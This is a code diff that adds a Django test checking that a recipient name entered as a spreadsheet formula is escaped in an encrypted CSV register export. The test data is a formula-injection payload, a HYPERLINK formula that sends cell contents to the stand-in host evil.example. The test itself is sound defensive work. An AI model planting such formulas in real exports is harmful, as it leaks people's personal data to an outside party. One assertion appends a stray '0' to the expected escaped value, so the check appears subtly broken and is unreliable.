@@ -185,6 +185,33 @@ def test_the_register_exports_through_the_framework(
     assert {row[7] for row in rows[2:]} == {"2026-10-05"}
 
 
+def test_a_name_typed_as_a_formula_reaches_the_register_file_as_text(
+    client_of: Any, recipients_of: Any, personas: dict[str, User]
+) -> None:
+    leak = '=HYPERLINK("http://evil.example/?leak="&C4&D4,"Anna")'
+    recipients_of(1, first_name=leak)
+    give(personas["agency_coordinator"], ExportKind.RECIPIENT_REGISTER, by=personas["system_admin"])
+    client = client_of("agency_coordinator")
+    client.post(
+        reverse("exports:job_request"),
+        {"kind": "recipient_register", "purpose": "Pārskats ministrijai par 2026. gadu"},
+    )
+    job = ExportJob.objects.get()
+    detail = client.get(reverse("exports:job_detail", args=[job.uuid])).content.decode()
+    passphrase = re.search(r'<output class="secret-once"[^>]*>([^<]+)</output>', detail)
+    download = client.get(reverse("exports:job_download", args=[job.uuid]))
+
+    assert passphrase is not None
+    with open_archive(b"".join(download.streaming_content)) as archive:
+        archive.setpassword(passphrase.group(1).encode())
+        rows = list(
+            csv.reader(io.StringIO(archive.read("recipient-register.csv").decode("utf-8-sig")))
+        )
+    cells = [cell for row in rows[2:] for cell in row]
+    assert f"'{leak}0" in cells
+    assert not [cell for cell in cells if cell.startswith("=")]
+
+
 def test_the_menu_shows_the_register_to_siva_only(client_of: Any) -> None:
     siva_home = client_of("agency_coordinator").get(reverse("core:home")).content.decode()
     worker_home = client_of("social_worker_a").get(reverse("core:home")).content.decode()
